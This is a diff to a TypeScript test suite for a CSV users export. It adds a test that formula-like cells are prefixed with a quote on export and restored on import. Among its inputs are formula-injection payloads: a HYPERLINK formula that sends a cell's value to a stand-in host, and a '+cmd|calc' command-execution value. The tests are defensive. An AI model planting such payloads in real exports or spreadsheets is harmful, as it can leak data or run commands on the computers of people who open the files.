@@ -11,6 +11,7 @@ import { prepareImport } from '../../src/services/imports/prepare.js';
 import { confirmImport } from '../../src/services/imports/confirm.js';
 import { addActor, newAccount, startTestSwitchboard, type TestSwitchboard } from '../support/switchboard.js';
 import { testRunner } from './support/csv.js';
+import { guardCell, onePage, unguardCell, writeCsv } from '../../src/services/imports/csv-file.js';
 
 let sb: TestSwitchboard;
 beforeAll(async () => {
@@ -116,6 +117,16 @@ describe('users export', () => {
     expect(refused).toBe(1);
   });
 
+  it('a cell a spreadsheet would run as a formula is written with a leading quote, taken off on import', async () => {
+    const cells = ['=HYPERLINK("http://x.example/?"&A1,"Click")', '@SUM(1)', '-2+3', '+cmd|calc'];
+    expect(cells.map(guardCell)).toEqual(cells.map((c) => `'${c}`));
+    expect(cells.map(guardCell).map(unguardCell)).toEqual(cells);
+    // Plain text and E.164 phone numbers are written as they are.
+    expect(['Ada', '+17035550100', "O'Brien", ''].map(guardCell)).toEqual(['Ada', '+17035550100', "O'Brien", '']);
+    const csv = await writeCsv(['User Label'], onePage([['=1+1'], ['ok']]));
+    expect(csv).toBe("User Label\r\n'=1+1\r\nok\r\n");
+  });
+
   it('any text in a field survives export and parse: commas, quotes, line breaks, unicode', async () => {
     const text = fc.string({ unit: 'grapheme', maxLength: 40 });
     await fc.assert(
@@ -142,7 +153,6 @@ describe('users export', () => {
             veloSso: 'off',
           },
         })) as unknown as UserDto[];
-        const { writeCsv } = await import('../../src/services/imports/csv-file.js');
         const csv = await writeCsv(
           EXPORT_HEADER,
           (async function* () {
@@ -150,7 +160,8 @@ describe('users export', () => {
           })(),
         );
         const parsed = await parseCsv(csv);
-        expect(parsed.records.map((r) => [r.cells[2], r.cells[3], r.cells[1]])).toEqual(
+        const cell = (text: string | undefined) => unguardCell(text ?? '');
+        expect(parsed.records.map((r) => [cell(r.cells[2]), cell(r.cells[3]), cell(r.cells[1])])).toEqual(
           people.map(([first, last, label]) => [
             first.replace(/\r\n/g, '\n'),
             last.replace(/\r\n/g, '\n'),
